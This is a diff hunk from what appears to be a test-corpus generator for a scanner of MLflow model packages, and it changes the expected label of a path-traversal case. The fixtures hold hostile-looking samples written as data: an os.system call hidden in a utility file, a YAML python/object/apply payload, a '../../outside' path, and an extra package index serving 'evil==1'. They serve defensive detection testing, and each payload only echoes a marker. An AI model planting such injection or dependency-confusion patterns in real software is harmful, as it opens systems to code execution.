@@ -38,7 +38,7 @@ def write(corpus, random):
     add("code-harm", folder(more="    code: code\n", **{"code/utils.py": b"__import__('os').system('echo countersign-marker')\n"}))
     add("code-plain", folder(more="    code: code\n", **{"code/utils.py": b"def scale(x):\n    return x * 2\n"}), "latent", loose + "|clean")
     add("loader-os", folder("os"), "latent")
-    add("path-outside", folder(more="    data: ../../outside\n"), "malicious", loose + "|clean")
+    add("path-outside", folder(more="    data: ../../outside\n"), "latent", loose + "|clean")
     add("pip-index", folder(**{"requirements.txt": b"--extra-index-url http://127.0.0.1:9/simple\nevil==1\n"}), "latent", loose)
     add("pip-git", folder(**{"conda.yaml": CONDA.replace(b"mlflow==2.9.2", b"git+https://example.invalid/a/b.git")}), "latent", loose + "|clean")
     add("yaml-object", {**folder(), "MLmodel": b"!!python/object/apply:os.system ['echo countersign-marker']\n"})
